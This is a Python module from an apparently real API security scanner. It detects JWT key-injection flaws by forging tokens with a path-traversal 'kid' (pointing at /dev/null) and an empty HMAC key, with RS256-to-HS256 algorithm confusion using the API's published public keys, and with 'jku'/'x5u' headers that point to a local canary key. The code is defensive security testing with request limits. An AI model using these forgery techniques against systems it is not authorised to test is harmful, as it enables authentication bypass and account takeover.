"""Authentication: JWTs whose header chooses the verification key — `kid`, `alg`, `jku`.

Each forged token keeps the claims of a token the API accepts and is signed with a key the
scanner knows, so it passes only where the API lets the token's header pick the key or the
algorithm. Forged tokens travel like the original on an otherwise anonymous request.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import urljoin, urlsplit

import jwt as pyjwt
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID

from middlebrick.checks._canary import Canary, reachable_from
from middlebrick.checks.authentication._jwt import (
    Carried,
    given_tokens,
    hs256_signed,
    rs256_signed,
    seen_tokens,
    tampered,
)
from middlebrick.checks.authentication._jwt_targets import (
    TARGET_TRIES,
    Target,
    accepted,
    find_target,
    forge,
    forged_finding,
)
from middlebrick.checks.context import CheckContext
from middlebrick.checks.registry import check
from middlebrick.findings import Finding
from middlebrick.http.exchange import Exchange

_KID = "authentication.jwt-kid-injection"
_CONFUSION = "authentication.jwt-algorithm-confusion"
_JKU = "authentication.jwt-jku-injection"

# A kid that a verifier turns into a file path ends at /dev/null, whose content (the key) is
# empty: the path-traversal form and the absolute one (PortSwigger Web Security Academy, "JWT
# authentication bypass via kid header path traversal"; RFC 7515 §4.1.4 leaves kid's syntax
# to the application).
_KID_PATHS = ("../../../../../../../../dev/null", "/dev/null")
# Where APIs publish their verification keys: the JWK Set location most identity providers
# serve (Auth0, Okta, Keycloak-style gateways), and the metadata documents of OpenID Connect
# Discovery 1.0 §4 and RFC 8414 §3, whose `jwks_uri` names the key set.
_KEY_SET_PATHS = ("/.well-known/jwks.json",)
_METADATA_PATHS = ("/.well-known/openid-configuration", "/.well-known/oauth-authorization-server")
_KEYS_TRIED = 2
_KEY_LOOKUPS = len(_KEY_SET_PATHS) + 2 * len(_METADATA_PATHS)  # a document, then its jwks_uri
_MAX_REQUESTS = TARGET_TRIES + 2 + len(_KID_PATHS) + _KEY_LOOKUPS + 3 * _KEYS_TRIED + 2


@check(
    category="authentication",
    emits={_KID, _CONFUSION, _JKU},
    max_requests=_MAX_REQUESTS,
)
async def jwt_key_injection(ctx: CheckContext) -> AsyncIterator[Finding]:
    """Tokens whose header picks the key: a `kid` path, the RSA key as HMAC secret, a `jku` URL.

    Takes the first JWT of the scan's credentials (else one a baseline response handed out)
    and an operation that accepts it and refuses anonymous requests (as ``jwt_forgery``). Each
    forged token has the same claims, replaces the real one in the same header or cookie of an
    otherwise anonymous copy of that request, and is signed with a key the scanner knows:

    - jwt-kid-injection: ``kid`` = ``../../../../../../../../dev/null`` (then ``/dev/null``),
      HS256 with an empty key — accepted where the API reads the key from the file ``kid``
      names (2 requests).
    - jwt-algorithm-confusion: the API's published RSA/EC public keys (``/.well-known/jwks.json``,
      or the ``jwks_uri`` of ``/.well-known/openid-configuration`` or
      ``/.well-known/oauth-authorization-server`` on the same origin, or a baseline answer that
      is a JWK Set; at most 2 keys), each as PEM (SubjectPublicKeyInfo with and without the
      final newline, and PKCS#1 for RSA) used as the HMAC secret of an HS256 token whose
      ``kid`` is the key's — accepted where the token's ``alg`` chooses the algorithm for the
      public key. Tried whatever the scan's token's own algorithm is.
    - jwt-jku-injection: ``jku`` = a URL of the scanner's loopback canary serving a JWK Set
      with a fresh RSA key of the scanner's, RS256-signed with it; then ``x5u`` = a canary URL
      serving a self-signed certificate of that key (PEM) — reported when the canary was asked
      for what the header names and the token was accepted (targets on loopback only).

    Accepted means the answer is 2xx, not a denial, with the real token's content where the
    anonymous request was refused (identical or same JSON shape: confirmed). First a control:
    the token with a wrong signature (as ``jwt_forgery`` sends it). Accepted, the API verifies
    no signature at all, so any forged header would pass too and prove nothing about ``kid``,
    ``alg`` or ``jku``: nothing more is sent (jwt-tampered-signature reports that root cause).
    One finding per kind; at most 19 requests.
    """
    given = given_tokens(ctx)
    for carried in (given or seen_tokens(ctx))[:1]:
        target = await find_target(ctx, carried)
        if target is None:
            continue
        if carried.jwt.signature:
            control = await forge(ctx, target, carried, tampered(carried.jwt))
            if accepted(target, control) is not None:
                return  # any signature passes: jwt-tampered-signature, not a key-choice flaw
        for kid in _KID_PATHS:
            forged = hs256_signed(carried.jwt, {"kid": kid}, b"")
            probe = await forge(ctx, target, carried, forged)
            if (confidence := accepted(target, probe)) is not None:
                how = f"and `kid: {kid}`, signed with an empty HMAC key,"
                yield forged_finding(ctx, _KID, target, probe, confidence, how)
                break
        confusion = await _confusion(ctx, target, carried)
        if confusion is not None:
            yield confusion
        jku = await _jku(ctx, target, carried)
        if jku is not None:
            yield jku


async def _confusion(ctx: CheckContext, target: Target, carried: Carried) -> Finding | None:
    """The algorithm-confusion finding: an HS256 token keyed with a published public key."""
    keys, source = await _published_keys(ctx)
    if source is None:
        return None
    for kid, public in keys[:_KEYS_TRIED]:
        for label, secret in _pem_forms(public):
            header = {"kid": kid} if kid else {}
            probe = await forge(ctx, target, carried, hs256_signed(carried.jwt, header, secret))
            if (confidence := accepted(target, probe)) is not None:
                how = (
                    f"re-signed HS256 with the public key of `{source.request.url}` "
                    f"({label}) as the HMAC secret"
                )
                more = [("key set", source)]
                return forged_finding(ctx, _CONFUSION, target, probe, confidence, how, more)
    return None


async def _jku(ctx: CheckContext, target: Target, carried: Carried) -> Finding | None:
    """The jku/x5u finding: a token naming the canary's keys, fetched and accepted."""
    if not reachable_from(ctx.base_url):
        return None
    key = await asyncio.to_thread(rsa.generate_private_key, public_exponent=65537, key_size=2048)
    jwk = json.loads(pyjwt.algorithms.RSAAlgorithm.to_jwk(key.public_key()))
    key_set = {"keys": [{**jwk, "kid": "middlebrick", "use": "sig", "alg": "RS256"}]}
    served = {
        "jku": (json.dumps(key_set).encode(), "application/json", "its key set"),
        "x5u": (_certificate(key), "application/pem-certificate-chain", "its certificate"),
    }
    async with Canary() as canary:
        for name, (body, media, what) in served.items():
            probe_url = canary.serving(body, media)
            header = {name: probe_url.url, "kid": "middlebrick"}
            probe = await forge(ctx, target, carried, rs256_signed(carried.jwt, header, key))
            await canary.settle()
            hits = canary.hits(probe_url)
            confidence = accepted(target, probe)
            if not hits or confidence is None:
                continue
            how = (
                f"signed with the scanner's own RSA key and `{name}` naming {what} (the canary "
                f"received {hits[0].describe()})"
            )
            more = [canary.evidence(hits[0])]
            return forged_finding(ctx, _JKU, target, probe, confidence, how, more)
    return None


def _certificate(key: rsa.RSAPrivateKey) -> bytes:
    """A self-signed certificate of ``key`` (PEM), valid for a day, as an x5u chain of one."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "middlebrick canary")])
    now = datetime.now(UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(minutes=5))
        .not_valid_after(now + timedelta(days=1))
        .sign(key, hashes.SHA256())
    )
    return certificate.public_bytes(serialization.Encoding.PEM)


async def _published_keys(ctx: CheckContext) -> tuple[list[tuple[str, Any]], Exchange | None]:
    """The API's published public keys (kid, key) and the exchange that served them."""
    for _, exchange in ctx.baseline.items():
        if keys := _keys_of(exchange):
            return keys, exchange
    parts = urlsplit(ctx.base_url)
    origin = f"{parts.scheme}://{parts.netloc}"
    for path in _KEY_SET_PATHS:
        exchange = await ctx.send(ctx.get(origin + path))
        if keys := _keys_of(exchange):
            return keys, exchange
    for path in _METADATA_PATHS:
        exchange = await ctx.send(ctx.get(origin + path))
        doc = exchange.response.json if exchange.response is not None else None
        named = doc.get("jwks_uri") if isinstance(doc, dict) else None
        uri = urljoin(origin + "/", named) if isinstance(named, str) else None
        if uri is None or urlsplit(uri).netloc != parts.netloc:
            continue  # the scan never leaves the target's origin
        fetched = await ctx.send(ctx.get(uri))
        if keys := _keys_of(fetched):
            return keys, fetched
    return [], None


def _keys_of(exchange: Exchange) -> list[tuple[str, Any]]:
    """The public keys of a JWK Set answer (RSA and EC), with their kid ('' when none)."""
    resp = exchange.response
    doc = resp.json if resp is not None and resp.ok else None
    entries = doc.get("keys") if isinstance(doc, dict) else None
    if not isinstance(entries, list):
        return []
    keys: list[tuple[str, Any]] = []
    for entry in entries:
        if not isinstance(entry, dict) or entry.get("kty") not in ("RSA", "EC"):
            continue
        try:
            key = pyjwt.PyJWK(entry).key
        except (pyjwt.PyJWTError, ValueError, TypeError, KeyError):
            continue
        kid = entry.get("kid")
        keys.append((kid if isinstance(kid, str) else "", key))
    return keys


def _pem_forms(public: Any) -> list[tuple[str, bytes]]:
    """The byte strings a naive verifier may use as the HMAC secret for ``public``."""
    spki = public.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    forms = [("PEM", spki), ("PEM without its final newline", spki.rstrip(b"\n"))]
    if isinstance(public, rsa.RSAPublicKey):
        pkcs1 = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)
        forms.append(("PKCS#1 PEM", pkcs1))
    return forms
